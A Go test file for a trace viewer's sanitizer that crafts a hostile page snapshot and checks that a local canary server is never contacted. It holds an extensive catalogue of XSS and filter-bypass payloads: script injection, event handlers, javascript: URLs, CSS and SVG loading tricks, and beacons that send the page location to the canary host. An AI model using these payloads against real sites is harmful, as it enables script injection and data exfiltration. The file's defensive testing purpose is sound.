package content_test

import (
	"archive/zip"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/go-rod/rod/lib/proto"

	"github.com/tracedeck/tracedeck/viewer/content"
)

// canary is a server that nothing may ever ask anything.
type canary struct {
	*httptest.Server
	mu   sync.Mutex
	hits []string
}

func newCanary(t *testing.T) *canary {
	c := &canary{}
	c.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		c.mu.Lock()
		defer c.mu.Unlock()
		c.hits = append(c.hits, r.URL.String())
		w.Header().Set("Access-Control-Allow-Origin", "*")
	}))
	t.Cleanup(c.Close)
	return c
}

func (c *canary) check(t *testing.T, after string) {
	t.Helper()
	c.mu.Lock()
	defer c.mu.Unlock()
	if len(c.hits) > 0 {
		t.Errorf("%s: the canary was asked for %q", after, c.hits)
		c.hits = nil
	}
}

// el makes a node of a snapshot.
func el(name string, attrs map[string]string, children ...any) []any {
	if attrs == nil {
		attrs = map[string]string{}
	}
	return append([]any{name, attrs}, children...)
}

// hostile returns nodes with script, and addresses at evil, in every place
// that can hold them. EVIL stands for the address and for the script.
func hostile(evil string) []any {
	script := "new Image().src='" + evil + "/ran?" + "'+location;fetch('" + evil + "/fetch')"
	js := "javascript:" + script
	at := func(path string) string { return evil + "/" + path }
	svgDoc := `<svg xmlns="http://www.w3.org/2000/svg" onload="` + script + `"><script>` + script + `</script></svg>`
	htmlDoc := "<script>" + script + "</script><img src=x onerror=\"" + script + "\">"
	m := func(kv ...string) map[string]string {
		a := map[string]string{}
		for i := 0; i+1 < len(kv); i += 2 {
			a[kv[i]] = kv[i+1]
		}
		return a
	}
	nodes := []any{
		el("SCRIPT", nil, script), el("script", m("src", at("s1")), script), el("ScRiPt", nil, script), el("svg", nil, el("script", m("href", at("s2")), script)),
		el("svg", nil, el("SCRIPT", m("xlink:href", at("s3")))),
		el("IMG", m("src", "x", "onerror", script, "ONERROR", script, "oNeRror", script)),
		el("BODY", m("onload", script, "background", at("bg"))),
		el("DIV", m("onclick", script, "onmouseenter", script, "onanimationstart", script, "style", "animation:x 1s", "on focus", script, "x\" onfocus=\""+script, "1")),
		el("IFRAME", m("src", js)), el("IFRAME", m("src", at("frame1"))), el("IFRAME", m("srcdoc", htmlDoc)), el("IFRAME", m("SRCDOC", htmlDoc)),
		el("IFRAME", m("src", "data:text/html,"+htmlDoc)), el("IFRAME", m("src", "/snapshot/"+at("x"))), el("IFRAME", m("src", "/snapshot/../../evil\" onload=\""+script)),
		el("IFRAME", nil, "</iframe>"+htmlDoc), el("FRAME", m("src", at("frame2"))), el("FRAMESET", m("onload", script), el("FRAME", m("src", js))),
		el("OBJECT", m("data", at("object"), "type", "text/html")), el("OBJECT", m("data", "data:text/html,"+htmlDoc)), el("OBJECT", m("classid", at("classid"), "codebase", evil)),
		el("EMBED", m("src", at("embed"))), el("EMBED", m("src", "data:image/svg+xml,"+svgDoc)), el("APPLET", m("archive", at("applet"), "code", "x")),
		el("PARAM", m("name", "movie", "value", at("param"))), el("PORTAL", m("src", at("portal"))), el("FENCEDFRAME", m("src", at("fenced"))),
		el("META", m("http-equiv", "refresh", "content", "0;url="+at("meta"))), el("META", m("HTTP-EQUIV", "Refresh", "content", "0;url="+js)),
		el("META", m("name", "referrer", "content", "unsafe-url")), el("META", m("http-equiv", "Content-Security-Policy", "content", "default-src *")),
		el("META", m("name", "viewport", "content", "width=1\"><script>"+script+"</script>")),
		el("BASE", m("href", evil+"/base/", "target", "_top")),
		el("LINK", m("rel", "stylesheet", "href", at("css1"))), el("LINK", m("rel", "icon", "href", at("icon"))), el("LINK", m("rel", "prefetch", "href", at("prefetch"))),
		el("LINK", m("rel", "preload", "as", "script", "href", at("preload"))), el("LINK", m("rel", "modulepreload", "href", at("module"))),
		el("LINK", m("rel", "dns-prefetch preconnect", "href", evil)), el("LINK", m("rel", "prerender", "href", at("prerender"))), el("LINK", m("rel", "import", "href", at("import"))),
		el("LINK", m("rel", "manifest", "href", at("manifest"))), el("LINK", m("rel", "stylesheet", "href", "data:text/css,@import '"+at("css2")+"'")),
		el("LINK", m("rel", "stylesheet", "href", js)), el("LINK", m("rel", "expect", "blocking", "render", "href", "#never")),
		el("STYLE", nil, "@import '"+at("css3")+"';@import url("+at("css4")+");@\\69mport \""+at("css5")+"\";body{background:url("+at("css6")+")}"),
		el("STYLE", nil, "@font-face{font-family:evil;src:url("+at("font1")+")}*{font-family:evil;list-style:url("+at("css7")+");cursor:url("+at("css8")+"),auto}"),
		el("STYLE", nil, "div{background:u\\72l("+at("css9")+");background-image:image-set('"+at("css10")+"' 1x);width:expression("+script+");behavior:url("+at("css11")+");-moz-binding:url("+at("css12")+")}"),
		el("STYLE", nil, ":root{--u:'"+at("css13")+"';--v:url("+at("css14")+")}p{background:image-set(var(--u) 1x);background:var(--v);content:url('"+at("css15")+"')}"),
		el("STYLE", nil, "</style><script>"+script+"</script>"), el("STYLE", nil, "<!--</style><img src="+at("css16")+">"), el("STYLE", nil, "a{b:'</sty", "le><script>"+script+"</script>'}"),
		el("STYLE", nil, "x{background:url("+at("css17")+"\n)}y{background:url( '"+at("css18")+"' )}z{background:URL("+at("css19")+")}w{background:-webkit-image-set(url("+at("css20")+") 1x)}"),
		el("STYLE", nil, "@namespace url("+at("ns")+");@charset \"utf-7\";@document url("+at("doc")+"){}q{filter:url("+at("css21")+"#f);mask:url("+at("css22")+");clip-path:url("+at("css23")+"#c)}"),
		el("STYLE", m("src", at("style"))), el("P", m("style", "background:url("+at("inline1")+");background:\\75rl("+at("inline2")+");background:url(\""+at("inline3")), "p"),
		el("svg", nil, el("style", nil, "</style><img src='"+at("svgstyle")+"' onerror='"+script+"'>", "*{fill:url("+at("svgcss")+")}&#60;img src=x>")),
		el("svg", nil, el("style", nil, "x{y:url&#40;"+at("svgcss2")+"&#41;}<img src="+at("svgcss3")+">")),
		el("IMG", m("src", at("img1"))), el("IMG", m("srcset", at("img2")+" 1x, "+at("img3")+" 2x")), el("IMG", m("__playwright_current_src__", at("img4"))),
		el("IMG", m("lowsrc", at("img5"), "dynsrc", at("img6"), "longdesc", at("img7"), "attributionsrc", at("img8"))), el("IMAGE", m("src", at("img9"))), el("image", m("href", at("img10"))),
		el("PICTURE", nil, el("SOURCE", m("srcset", at("img11"))), el("IMG", m("src", at("img12")))), el("INPUT", m("type", "image", "src", at("img13"), "formaction", js)),
		el("IMG", m("src", "//"+strings.TrimPrefix(evil, "http://")+"/img14")), el("IMG", m("src", "\x01 "+at("img15"))), el("IMG", m("src", "ht\ntp:"+strings.TrimPrefix(at("img16"), "http:"))),
		el("VIDEO", m("src", at("video"), "poster", at("poster"), "autoplay", "", "onloadstart", script), el("SOURCE", m("src", at("source"))), el("TRACK", m("src", at("track"), "default", ""))),
		el("AUDIO", m("src", at("audio"), "autoplay", ""), el("SOURCE", m("src", at("source2")))), el("BGSOUND", m("src", at("bgsound"))),
		el("TABLE", m("background", at("table")), el("TD", m("background", at("td")))),
		el("A", m("href", js, "ping", at("ping"), "target", "_top", "download", "x", "id", "link1"), "link"), el("A", m("href", at("link")), "link"), el("AREA", m("href", at("area"))),
		el("FORM", m("action", at("form"), "method", "post"), el("INPUT", m("name", "q", "autofocus", "", "onfocus", script)), el("BUTTON", m("formaction", at("formaction"), "type", "submit"), "send")),
		el("FORM", m("action", js), el("INPUT", m("type", "submit", "formaction", js))), el("ISINDEX", m("action", js)), el("KEYGEN", m("autofocus", "", "onfocus", script)),
		el("NOSCRIPT", nil, el("IMG", m("src", at("noscript1"))), "<img src="+at("noscript2")+">"), el("TEMPLATE", nil, el("IMG", m("src", at("template"), "onerror", script))),
		el("X-HOST", nil, el("template", m("__playwright_shadow_root_", "open"), el("IMG", m("src", at("shadow1"), "onerror", script)), el("SCRIPT", nil, script),
			el("template", m("__playwright_style_sheet_", "@import '"+at("shadow2")+"';:host{background:url("+at("shadow3")+")}</style><script>"+script+"</script>")))),
		el("DIV", nil, el("TEMPLATE", m("shadowrootmode", "open"), el("SCRIPT", nil, script))),
		el("svg", m("onload", script), el("image", m("href", at("svg1"), "xlink:href", at("svg2"))), el("use", m("href", at("svg3")+"#x")), el("use", m("href", "data:image/svg+xml,"+svgDoc+"#x")),
			el("a", m("href", js), el("text", nil, "x")), el("feImage", m("href", at("svg4"))), el("rect", m("fill", "url("+at("svg5")+"#f)", "filter", "u\\72l("+at("svg6")+"#f)", "mask", "url('"+at("svg7")+"')")),
			el("animate", m("attributeName", "href", "to", js, "begin", "0s")), el("set", m("attributeName", "xlink:href", "to", at("svg8"))), el("set", m("attributeName", "onload", "to", script)),
			el("foreignObject", nil, el("IFRAME", m("src", js)), el("IMG", m("src", at("svg9")))), el("handler", m("type", "text/javascript"), script)),
		el("math", nil, el("maction", m("actiontype", "statusline#"+at("math"), "xlink:href", js), el("mi", nil, "x")), el("mtext", nil, el("TABLE", nil, el("mglyph", nil, el("style", nil, "<img src="+at("math2")+" onerror="+script+">"))))),
		el("a onload="+script, nil, "x"), el("img/src="+at("name1"), nil), el("x><script>"+script+"</script>", nil), el("x-a\" onclick=\""+script, nil), el("!--", nil, "x"), el("?xml", nil), el("/div", nil), el("", nil), el("x-\u00e9<b", nil), el("x-é", m("a=b", "c"), "ok"),
		el("XMP", nil, "</xmp><script>"+script+"</script>"), el("PLAINTEXT", nil, "x"), el("NOEMBED", nil, "</noembed>"+htmlDoc), el("NOFRAMES", nil, "</noframes>"+htmlDoc), el("LISTING", nil, htmlDoc),
		el("TEXTAREA", m("__playwright_value_", "</textarea>"+htmlDoc)), el("TITLE", nil, "</title>"+htmlDoc), el("TITLE", nil, el("IMG", m("src", at("title")))), el("TEXTAREA", nil, el("SCRIPT", nil, script)),
		el("SELECT", nil, el("OPTION", m("__playwright_selected_", "true"), "</select>"+htmlDoc)), el("INPUT", m("__playwright_value_", "\"><script>"+script+"</script>")),
		el("CANVAS", m("__playwright_bounding_rect__", `{"left":"0);background:url(`+at("canvas")+`","top":0,"right":10,"bottom":10}`)), el("CANVAS", m("__playwright_bounding_rect__", `{"left":0,"top":0,"right":10,"bottom":10}`), htmlDoc),
		el("DIV", m("__playwright_scroll_top_", "1px);background:url("+at("scroll")+")", "__playwright_scroll_left_", "5", "style", "overflow:auto;height:10px")),
		el("HTML", m("manifest", at("appcache"))), el("DIALOG", m("__playwright_dialog_open_", "modal", "onclose", script), htmlDoc), el("DETAILS", m("open", "", "ontoggle", script)), el("MARQUEE", m("onstart", script), "x"),
		el("BUTTON", m("popovertarget", "x", "commandfor", "x", "command", "show-modal", "interestfor", "x")), el("DIV", m("xmlns", "http://www.w3.org/1999/xhtml", "xml:base", evil, "data-x", "\"'><img src="+at("data")+">")),
		el("IMG", m("src", "EVILRESOURCE.svg")), el("LINK", m("rel", "stylesheet", "href", "evil.css")), el("IFRAME", m("src", "/snapshot/frame@child")),
	}
	return nodes
}

// craft writes a hostile trace, with resources of all types that can hold
// script.
func craft(t *testing.T, evil string) string {
	t.Helper()
	head := el("HEAD", nil, el("BASE", map[string]string{"href": "http://page.test/"}), el("TITLE", nil, "hostile"))
	page := el("HTML", nil, head, el("BODY", nil, append([]any{"text of the page"}, hostile(evil)...)...))
	child := el("HTML", nil, el("BODY", nil, append([]any{"child"}, hostile(evil)...)...))
	return writeTrace(t, "html\"><script>x", page, child, hostileResources(evil), map[string]string{"evil.css": "text/css", "EVILRESOURCE.svg=evil.svg": "image/svg+xml"})
}

// writeTrace writes a trace with one snapshot of a page and of a frame in it.
// types says which resources were responses, by path.
func writeTrace(t *testing.T, doctype string, page, child any, resources, types map[string]string) string {
	t.Helper()
	path := filepath.Join(t.TempDir(), "crafted.zip")
	f, err := os.Create(path)
	if err != nil {
		t.Fatal(err)
	}
	z := zip.NewWriter(f)
	add := func(name, text string) {
		w, err := z.Create(name)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := w.Write([]byte(text)); err != nil {
			t.Fatal(err)
		}
	}
	for name, text := range resources {
		add("resources/"+name, text)
	}
	lines := []string{`{"version":10,"type":"context-options","origin":"library","browserName":"chromium","options":{},"wallTime":1,"monotonicTime":1}`,
		`{"type":"before","callId":"a@1","startTime":10,"class":"Frame","method":"goto","params":{}}`}
	for i, frame := range []any{page, child} {
		id, main := "frame@main", "true"
		if i == 1 {
			id, main = "frame@child", "false"
		}
		html, err := json.Marshal(frame)
		if err != nil {
			t.Fatal(err)
		}
		lines = append(lines, fmt.Sprintf(`{"type":"frame-snapshot","snapshot":{"callId":"a@1","phase":"after","pageId":"page@1","frameId":%q,"frameUrl":"http://page.test/","doctype":%q,"html":%s,`+
			`"viewport":{"width":800,"height":600},"timestamp":100,"resourceOverrides":[],"isMainFrame":%s}}`, id, doctype, html, main))
	}
	add("trace.trace", strings.Join(lines, "\n"))
	network := ""
	for name, mime := range types {
		url, file, ok := strings.Cut(name, "=")
		if !ok {
			file = url
		}
		network += resourceLine("http://page.test/"+url, mime, file)
	}
	add("trace.network", network)
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	if err := f.Close(); err != nil {
		t.Fatal(err)
	}
	return path
}

func resourceLine(url, mime, file string) string {
	return fmt.Sprintf(`{"type":"resource-snapshot","snapshot":{"_frameref":"frame@main","_monotonicTime":5,"request":{"method":"GET","url":%q,"headers":[]},`+
		`"response":{"status":200,"headers":[],"content":{"size":1,"mimeType":%q,"_file":"resources/%s"}}}}`+"\n", url, mime, file)
}

func hostileResources(evil string) map[string]string {
	script := "new Image().src='" + evil + "/res';fetch('" + evil + "/resfetch');location='" + evil + "/nav'"
	html := "<html><head><meta http-equiv=refresh content='0;url=" + evil + "/refresh'><script>" + script + "</script></head><body onload=\"" + script + "\"><img src='" + evil + "/img'>" +
		"<iframe src='" + evil + "/iframe'></iframe><object data='" + evil + "/obj'></object><link rel=stylesheet href='" + evil + "/css'></body></html>"
	svg := `<?xml version="1.0"?><?xml-stylesheet href="` + evil + `/xsl" type="text/xsl"?><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="10" height="10" onload="` + script + `">` +
		`<script>` + script + `</script><image href="` + evil + `/svgimg" width="5" height="5"/><style>@import '` + evil + `/svgcss';</style>` +
		`<foreignObject width="5" height="5"><body xmlns="http://www.w3.org/1999/xhtml"><meta http-equiv="refresh" content="0;url=` + evil + `/svgrefresh"/><iframe src="` + evil + `/svgframe"/></body></foreignObject></svg>`
	pdf := "%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/URI/URI(" + evil + "/pdf)>>>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>"
	return map[string]string{
		"evil.html": html, "evil.htm": html, "evil.xhtml": strings.Replace(html, "<html>", `<html xmlns="http://www.w3.org/1999/xhtml">`, 1), "evil.dat": html, "evil": html, "evil.mht": "Content-Type: text/html\n\n" + html,
		"evil.svg": svg, "evil.xml": svg, "evil.pdf": pdf, "evil.js": script, "evil.png": html, "evil.jpeg": svg,
		"evil.css": "@import '" + evil + "/rescss1';body{background:url(" + evil + "/rescss2)}@import url(http://page.test/evil.css);",
	}
}

// TestNothingRecordedRuns opens a trace that tries everything. Whatever gets
// out is heard by the canary.
func TestNothingRecordedRuns(t *testing.T) {
	c := newCanary(t)
	s := serve(t, craft(t, c.URL), content.Options{InspectScript: "window.tracedeck = 1"})
	browser := chromium(t)
	page, err := browser.Page(proto.TargetCreateTarget{URL: "about:blank"})
	if err != nil {
		t.Fatal(err)
	}
	open := func(path string) {
		t.Helper()
		if err := page.Navigate(s.url + path); err != nil && !strings.Contains(err.Error(), "ERR_ABORTED") { // a download
			t.Errorf("%s: %v", path, err)
		}
		time.Sleep(150 * time.Millisecond)
		c.check(t, path)
	}
	open("snapshot/0")
	if text, err := page.Eval(`() => document.body.innerText`); err != nil || !strings.Contains(text.Value.Str(), "text of the page") {
		t.Errorf("the page is not shown: %v %v", text, err)
	}
	if n, err := page.Eval(`() => document.querySelectorAll('script, object, embed, [onload], [onerror], base, [srcdoc]').length`); err != nil || n.Value.Int() != 0 {
		t.Errorf("active content: %v %v", n, err)
	}
	for _, click := range []string{"#link1", "button", "input[type=submit]", "a", "area"} {
		_, _ = page.Eval(`s => document.querySelectorAll(s).forEach(e => e.click())`, click)
		time.Sleep(50 * time.Millisecond)
		c.check(t, "click on "+click)
	}
	open("snapshot/1")
	open("snapshot/0?point=10,10&box=5,5")
	open("snapshot/0?inspect=1")
	if v, err := page.Eval(`() => window.tracedeck`); err != nil || v.Value.Int() != 1 {
		t.Errorf("the script of the inspect mode did not run: %v %v", v, err)
	}
	for name := range hostileResources(c.URL) {
		open("r/resources/" + name)
	}
	time.Sleep(500 * time.Millisecond)
	c.check(t, "the end")
}

// TestFilterHoldsWithoutHeaders opens the same pages from a server that sends
// no policy, in a browser in which scripts run: the filter has to hold alone.
func TestFilterHoldsWithoutHeaders(t *testing.T) {
	c := newCanary(t)
	s := serve(t, craft(t, c.URL), content.Options{})
	bare := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		res, err := http.Get(strings.TrimSuffix(s.url, "/c/"+token+"/"+id+"/") + r.URL.String())
		if err != nil {
			return
		}
		defer res.Body.Close()
		w.Header().Set("Content-Type", res.Header.Get("Content-Type"))
		w.WriteHeader(res.StatusCode)
		_, _ = io.Copy(w, res.Body)
	}))
	defer bare.Close()
	page, err := chromium(t).Page(proto.TargetCreateTarget{URL: "about:blank"})
	if err != nil {
		t.Fatal(err)
	}
	for _, n := range []string{"0", "1"} {
		if err := page.Navigate(bare.URL + "/c/" + token + "/" + id + "/snapshot/" + n); err != nil {
			t.Fatal(err)
		}
		time.Sleep(500 * time.Millisecond)
		c.check(t, "snapshot "+n)
		for _, click := range []string{"a", "area", "button", "input", "svg a", "summary", "div", "dialog"} {
			_, _ = page.Eval(`s => document.querySelectorAll(s).forEach(e => { e.dispatchEvent(new MouseEvent('click', {bubbles: true, cancelable: true})); e.dispatchEvent(new Event('focus')) })`, click)
			time.Sleep(100 * time.Millisecond)
			c.check(t, "click on "+click)
		}
	}
}
